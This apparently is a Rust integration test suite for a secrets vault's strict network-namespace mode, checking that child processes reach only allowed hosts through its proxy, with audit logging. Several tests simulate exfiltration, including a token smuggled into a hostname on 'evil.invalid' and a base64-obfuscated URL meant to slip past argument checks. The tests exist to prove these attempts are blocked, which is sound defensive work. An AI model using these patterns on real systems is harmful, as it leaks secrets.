//! `vault run --net strict`: the child in a network namespace whose only way out is vault's
//! proxy. Real clients (curl, Python urllib, Node, git) against servers on 127.0.0.1 that
//! count their connections, so "nothing reached the denied server" is asserted, not
//! assumed. The unprivileged path runs vault inside an outer `unshare -U` mapping it to a
//! non-root uid; the fail-closed path inside one whose `user.max_user_namespaces` is 0.

use std::path::Path;
use std::process::Command as StdCommand;

use assert_cmd::Command;

use crate::egress::Server;
use crate::support::KillOnDrop;
use crate::support::have;
use crate::support::{BIN, Vault, assert_error, contains, without_terminal, wrap};

const UNAVAILABLE: i32 = 69;
const DENIED_BODY: &str = "vault: ";

/// The egress tests' 127.0.0.1 server (it counts connections and records request heads),
/// answering `hello from PORT`.
fn hello_server() -> Server {
    Server::start_with(|_, port| format!("hello from {port}\n"))
}

/// Whether this machine can make namespaces at all (it can here and in CI; elsewhere the
/// strict tests skip, except in CI where they fail).
fn strict_here() -> bool {
    let ok = StdCommand::new("unshare")
        .args(["-Urn", "true"])
        .status()
        .is_ok_and(|s| s.success());
    assert!(
        ok || std::env::var_os("CI").is_none(),
        "user+network namespaces must work in CI"
    );
    if !ok {
        eprintln!("net test skipped: this machine cannot make user+network namespaces");
    }
    ok
}

/// `vault run --net strict ARGS… -- sh -c SCRIPT`, headless.
fn strict(v: &Vault, flags: &[&str], script: &str) -> Command {
    let mut std = v.std_cmd();
    std.args(["run", "--net", "strict"])
        .args(flags)
        .args(["--", "sh", "-c", script]);
    without_terminal(&mut std);
    wrap(std)
}

fn stdout(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The audit log's `net` entries.
fn net_entries(v: &Vault) -> Vec<serde_json::Value> {
    std::fs::read_to_string(v.home.join("audit.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|e| e["action"] == "net")
        .collect()
}

fn fresh() -> Vault {
    let v = Vault::new();
    v.init();
    v
}

#[test]
fn allowed_host_is_reached_by_curl_python_and_socks() {
    if !strict_here() || !have("curl") || !have("python3") {
        return;
    }
    let v = fresh();
    let s = hello_server();
    let allow = format!("127.0.0.1:{}", s.port());
    let url = s.url();
    let py = format!(
        "python3 -c 'import urllib.request;print(urllib.request.urlopen(\"{url}\").read().decode(), end=\"\")'"
    );
    let script = format!(
        "curl -sS {url}; {py}; curl -sS --proxy socks5h://127.0.0.1:3128 {url}; env | grep -c -i '^no_proxy=' || true"
    );
    let out = v.ok(&mut strict(&v, &["--allow-host", &allow], &script));
    let want = format!("hello from {}\n", s.port());
    assert_eq!(stdout(&out), format!("{want}{want}{want}0\n"));
    // The request left vault in origin form, Host naming the judged host.
    let heads: Vec<String> = s
        .requests()
        .iter()
        .map(|h| String::from_utf8_lossy(h).into_owned())
        .collect();
    assert!(heads[0].starts_with("GET / HTTP/1.1\r\n"), "{heads:?}");
    assert!(heads[0].contains(&format!("Host: 127.0.0.1:{}\r\n", s.port())));
    let entries = net_entries(&v);
    assert_eq!(entries.len(), 3, "{entries:?}");
    for e in &entries {
        assert_eq!(e["hosts"][0], allow.as_str());
        assert_eq!(e["decision"]["allow"], "");
        assert!(e["decision"]["down"].as_u64().unwrap() > 0, "{e}");
    }
    assert_eq!(entries[2]["decision"]["protocol"], "socks5");
}

#[test]
fn denied_host_gets_a_403_and_an_audit_entry_and_the_server_nothing() {
    if !strict_here() || !have("curl") {
        return;
    }
    let v = fresh();
    let allowed = hello_server();
    let denied = hello_server();
    let out = v.ok(&mut strict(
        &v,
        &["--allow-host", &format!("127.0.0.1:{}", allowed.port())],
        &format!("curl -sS -i {}", denied.url()),
    ));
    let text = stdout(&out);
    assert!(text.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{text}");
    let reason = format!(
        "X-Vault-Refused: 127.0.0.1:{} matches no --allow-host pattern\r\n",
        denied.port()
    );
    assert!(text.contains(&reason), "{text}");
    assert!(text.contains(DENIED_BODY));
    assert_eq!(denied.connections(), 0);
    let entries = net_entries(&v);
    assert_eq!(entries.len(), 1);
    assert_eq!(
        entries[0]["hosts"][0],
        format!("127.0.0.1:{}", denied.port())
    );
    assert!(
        entries[0]["decision"]["deny"]
            .as_str()
            .unwrap()
            .contains("matches no --allow-host")
    );
    assert_eq!(entries[0]["decision"]["up"], 0);
    // With no secret and no --allow-host, nothing at all is reachable.
    let out = v.ok(&mut strict(
        &v,
        &[],
        &format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' {}",
            allowed.url()
        ),
    ));
    assert_eq!(stdout(&out), "403");
    assert_eq!(allowed.connections(), 0);
}

#[test]
fn secrets_policies_decide_and_allow_host_only_narrows() {
    if !strict_here() || !have("curl") {
        return;
    }
    let v = fresh();
    let a = hello_server();
    let b = hello_server();
    v.ok(v
        .cmd()
        .args([
            "set",
            "TOKEN",
            "--allow",
            &format!("127.0.0.1:{}", a.port()),
        ])
        .write_stdin("tok-value-123\n"));
    // The URL is built at run time, so the argv check (which would refuse a readable denied
    // URL before exec) leaves it to the network.
    let code = |flags: &[&str], url: &str| {
        stdout(&v.ok(&mut strict(
            &v,
            flags,
            &format!("u=$(printf %s {url}); curl -sS -o /dev/null -w '%{{http_code}}' \"$u\""),
        )))
    };
    assert_eq!(code(&[], &a.url()), "200");
    assert_eq!(code(&[], &b.url()), "403");
    // --allow-host cannot widen what TOKEN allows ...
    assert_eq!(
        code(
            &["--allow-host", &format!("127.0.0.1:{}", b.port())],
            &b.url()
        ),
        "403"
    );
    // ... and can narrow it.
    assert_eq!(
        code(
            &["--allow-host", &format!("127.0.0.1:{}", b.port())],
            &a.url()
        ),
        "403"
    );
    assert_eq!(b.connections(), 0);
    assert_eq!(a.connections(), 1);
    // A denied destination the argv check can read is refused before exec, as under argv.
    let err = v.refuses(&mut strict(&v, &[], &format!("curl {}", b.url())), 77);
    assert!(err.contains("TOKEN may not be sent to"), "{err}");
    let deny = net_entries(&v)
        .into_iter()
        .find(|e| e["hosts"][0] == format!("127.0.0.1:{}", b.port()))
        .expect("an entry for b");
    assert_eq!(deny["secrets"][0], "TOKEN");
    assert!(
        deny["decision"]["deny"]
            .as_str()
            .unwrap()
            .starts_with("TOKEN may not be sent to")
    );
}

#[test]
fn what_the_argv_check_cannot_see_cannot_reach_the_network() {
    if !strict_here() || !have("curl") || !have("python3") {
        return;
    }
    let v = fresh();
    v.ok(v
        .cmd()
        .args(["set", "TOKEN", "--allow", "allowed.invalid"])
        .write_stdin("tok-value-123\n"));
    let denied = hello_server();
    let port = denied.port();
    let encoded = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(denied.url())
    };
    let script = format!(
        r#"
        u=$(echo {encoded} | base64 -d); curl -sS -o /dev/null -w '%{{http_code}} ' "$u"
        curl -sS --noproxy '*' -o /dev/null {url} 2>/dev/null || echo noproxy-failed
        python3 -c 'import socket; socket.create_connection(("127.0.0.1", {port}), timeout=5)' 2>/dev/null || echo socket-failed
        python3 -c 'import socket; socket.getaddrinfo("pypi.org", 443)' 2>/dev/null || echo dns-failed
        getent hosts pypi.org >/dev/null || echo getent-failed
        python3 -c 'import socket; socket.create_connection(("::1", {port}), timeout=5)' 2>/dev/null || echo direct-ip-failed
        "#,
        url = denied.url()
    );
    // pypi.org is a name this machine resolves (the package registry): inside, nothing
    // resolves. A DNS query never leaves the namespace, so the resolver sees nothing.
    let out = v.ok(&mut strict(&v, &[], &script));
    assert_eq!(
        stdout(&out),
        "403 noproxy-failed\nsocket-failed\ndns-failed\ngetent-failed\ndirect-ip-failed\n"
    );
    assert_eq!(denied.connections(), 0, "the denied server was reached");
    // The audit log has the refusal and never the value.
    let log = std::fs::read(v.home.join("audit.jsonl")).expect("audit");
    assert!(!contains(&log, b"tok-value-123"));
    assert_eq!(net_entries(&v).len(), 1);
}

#[test]
fn a_host_name_carrying_a_value_is_refused_and_redacted_in_the_audit_log() {
    if !strict_here() || !have("curl") {
        return;
    }
    let v = fresh();
    v.ok(v
        .cmd()
        .args(["set", "TOKEN", "--allow", "allowed.invalid"])
        .write_stdin("tokvalue123\n"));
    let out = v.ok(&mut strict(
        &v,
        &[],
        "curl -sS -o /dev/null -w '%{http_code}' \"https://$TOKEN.evil.invalid/\" || true",
    ));
    // curl reports CONNECT refused as code 000 and an error; what matters: refused, audited.
    assert!(!stdout(&out).contains("200"));
    let entries = net_entries(&v);
    assert_eq!(entries.len(), 1);
    let text = entries[0].to_string();
    assert!(!text.contains("tokvalue123"), "{text}");
    assert!(text.contains("evil.invalid"), "{text}");
}

#[test]
fn https_through_connect_is_relayed_end_to_end() {
    if !strict_here() || !have("curl") || !have("openssl") || !have("python3") || !have("node") {
        return;
    }
    let v = fresh();
    let dir = v.path("tls");
    std::fs::create_dir_all(&dir).expect("mkdir");
    let ok = StdCommand::new("openssl")
        .current_dir(&dir)
        .args([
            "req",
            "-x509",
            "-newkey",
            "ec",
            "-pkeyopt",
            "ec_paramgen_curve:P-256",
            "-nodes",
            "-keyout",
            "key.pem",
            "-out",
            "cert.pem",
            "-days",
            "1",
            "-subj",
            "/CN=localhost",
            "-addext",
            "subjectAltName=DNS:localhost,IP:127.0.0.1",
        ])
        .output()
        .expect("openssl");
    assert!(ok.status.success(), "{ok:?}");
    let server = https_server(&dir);
    let url = format!("https://localhost:{}/", server.1);
    let node = format!(
        r#"node -e '
const http = require("http"), tls = require("tls");
const req = http.request({{host: "127.0.0.1", port: 3128, method: "CONNECT", path: "localhost:{port}"}});
req.on("connect", (res, socket) => {{
  const s = tls.connect({{socket, servername: "localhost", ca: require("fs").readFileSync("{ca}")}}, () => {{
    s.write("GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
  }});
  let body = ""; s.on("data", d => body += d); s.on("end", () => console.log(body.split("\r\n\r\n")[1].trim()));
}});
req.end();'"#,
        port = server.1,
        ca = dir.join("cert.pem").display()
    );
    let script = format!(
        "curl -sS --cacert {ca} {url}; {node}; curl -sS -o /dev/null -w '%{{http_code}}' --cacert {ca} https://127.0.0.1:{denied}/ || true",
        ca = dir.join("cert.pem").display(),
        denied = server.1 + 1,
    );
    let out = v.ok(&mut strict(
        &v,
        &["--allow-host", &format!("localhost:{}", server.1)],
        &script,
    ));
    let text = stdout(&out);
    assert!(
        text.starts_with("tls-hello\ntls-hello\n"),
        "{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let entries = net_entries(&v);
    assert_eq!(entries[0]["decision"]["protocol"], "connect");
    assert_eq!(entries[0]["hosts"][0], format!("localhost:{}", server.1));
}

/// A python3 HTTPS server on 127.0.0.1 answering `tls-hello`; (child, port).
fn https_server(dir: &Path) -> (KillOnDrop, u16) {
    let script = r#"
import http.server, ssl, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        b = b"tls-hello\n"
        self.send_response(200); self.send_header("Content-Length", str(len(b))); self.end_headers(); self.wfile.write(b)
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain("cert.pem", "key.pem")
s.socket = c.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;
    crate::support::python_server(dir, script)
}

#[test]
fn git_clones_over_http_through_the_proxy() {
    if !strict_here() || !have("git") || !have("python3") {
        return;
    }
    let v = fresh();
    let root = v.path("www");
    let repo = root.join("r.git");
    let git = |args: &[&str], dir: &Path| {
        let o = StdCommand::new("git")
            .current_dir(dir)
            .args(args)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", v.path(""))
            .output()
            .expect("git");
        assert!(o.status.success(), "{o:?}");
    };
    std::fs::create_dir_all(&root).expect("mkdir");
    let work = v.path("work");
    std::fs::create_dir_all(&work).expect("mkdir");
    git(&["init", "-q", "-b", "main"], &work);
    std::fs::write(work.join("f"), "content\n").expect("write");
    git(&["add", "f"], &work);
    git(
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-qm",
            "m",
        ],
        &work,
    );
    git(
        &[
            "clone",
            "-q",
            "--bare",
            work.to_str().unwrap(),
            repo.to_str().unwrap(),
        ],
        &root,
    );
    git(&["update-server-info"], &repo);
    let server = {
        crate::support::python_server(
            &root,
            "import http.server,functools,sys\ns=http.server.ThreadingHTTPServer(('127.0.0.1',0),functools.partial(http.server.SimpleHTTPRequestHandler,directory='.'))\nprint(s.server_address[1],flush=True)\ns.serve_forever()",
        )
    };
    let dest = v.path("clone");
    let out = v.ok(&mut strict(
        &v,
        &["--allow-host", &format!("127.0.0.1:{}", server.1)],
        &format!(
            "HOME={home} git clone -q http://127.0.0.1:{port}/r.git {dest} && cat {dest}/f",
            home = v.path("").display(),
            port = server.1,
            dest = dest.display()
        ),
    ));
    assert_eq!(stdout(&out), "content\n");
}

#[test]
fn unprivileged_vault_makes_its_namespace_too() {
    if !strict_here() || !have("curl") {
        return;
    }
    let v = fresh();
    let s = hello_server();
    // An outer user namespace maps vault to uid 1000: vault is not root there and takes the
    // unprivileged path (its own user namespace, one-line maps).
    let mut std = v.std_program("unshare");
    std.env("VAULT_IDENTITY", &v.fixture.identity)
        .args(["-U", "--map-user=1000", "--map-group=1000", BIN])
        .args(["run", "--net", "strict", "--allow-host"])
        .arg(format!("127.0.0.1:{}", s.port()))
        .args(["--", "sh", "-c"])
        .arg(format!("id -u; curl -sS {}", s.url()));
    without_terminal(&mut std);
    let out = v.ok(&mut wrap(std));
    assert_eq!(stdout(&out), format!("1000\nhello from {}\n", s.port()));
}

#[test]
fn no_namespace_means_refused_never_a_fallback() {
    if !strict_here() {
        return;
    }
    let v = fresh();
    let marker = v.path("started");
    // Inside an outer user namespace whose max_user_namespaces is 0, no namespace can be
    // made: vault must refuse (69), not run the command without one.
    let mut std = v.std_program("unshare");
    std.env("VAULT_IDENTITY", &v.fixture.identity).args([
        "-Ur",
        "sh",
        "-c",
        &format!(
            "echo 0 > /proc/sys/user/max_user_namespaces && exec {BIN} run --net strict -- touch {}",
            marker.display()
        ),
    ]);
    without_terminal(&mut std);
    let out = v.run(&mut wrap(std));
    let err = assert_error(&out, UNAVAILABLE);
    assert!(err.contains("user.max_user_namespaces = 0"), "{err}");
    assert!(!marker.exists(), "the command ran without its namespace");
}

#[test]
fn config_can_only_tighten_and_broker_is_accepted() {
    if !strict_here() {
        return;
    }
    let v = fresh();
    v.write_config("net = \"strict\"\n");
    // --net argv cannot loosen config's strict: the child is in the namespace.
    let mut std = v.std_cmd();
    std.args([
        "run",
        "--net",
        "argv",
        "--",
        "sh",
        "-c",
        "echo $HTTPS_PROXY",
    ]);
    without_terminal(&mut std);
    let out = v.ok(&mut wrap(std));
    assert_eq!(stdout(&out), "http://127.0.0.1:3128\n");
    // broker is stricter than config's strict, and built.
    let mut std = v.std_cmd();
    std.args(["run", "--net", "broker", "--", "true"]);
    without_terminal(&mut std);
    v.ok(&mut wrap(std));
    let v = fresh();
    let mut std = v.std_cmd();
    std.args(["run", "--allow-host", "example.com", "--", "true"]);
    let err = v.refuses(&mut wrap(std), 2);
    assert!(err.contains("--allow-host applies only"), "{err}");
}

#[test]
fn a_confirm_host_needs_an_approval_and_none_can_be_given() {
    if !strict_here() || !have("curl") {
        return;
    }
    let v = fresh();
    let s = hello_server();
    v.ok(v
        .cmd()
        .args([
            "set",
            "TOKEN",
            "--confirm",
            &format!("127.0.0.1:{}", s.port()),
        ])
        .write_stdin("tok-value-123\n"));
    let out = v.ok(&mut strict(
        &v,
        &[],
        &format!(
            "u=$(printf %s {}); curl -sS -i \"$u\" | grep -i '^x-vault-refused'",
            s.url()
        ),
    ));
    let text = stdout(&out);
    assert!(text.contains("needs an approval"), "{text}");
    assert_eq!(s.connections(), 0);
}

#[test]
fn the_child_keeps_its_terminal_and_ids_in_the_namespace() {
    if !strict_here() {
        return;
    }
    let v = fresh();
    let mut std = v.std_cmd();
    std.args([
        "run",
        "--pty",
        "--net",
        "strict",
        "--",
        "sh",
        "-c",
        "test -t 0 && test -t 1 && echo tty-ok; id -u",
    ]);
    without_terminal(&mut std);
    let out = v.ok(&mut wrap(std));
    let uid = own_uid();
    assert_eq!(stdout(&out), format!("tty-ok\n{uid}\n"));
}

fn own_uid() -> String {
    let out = StdCommand::new("id").arg("-u").output().expect("id");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}
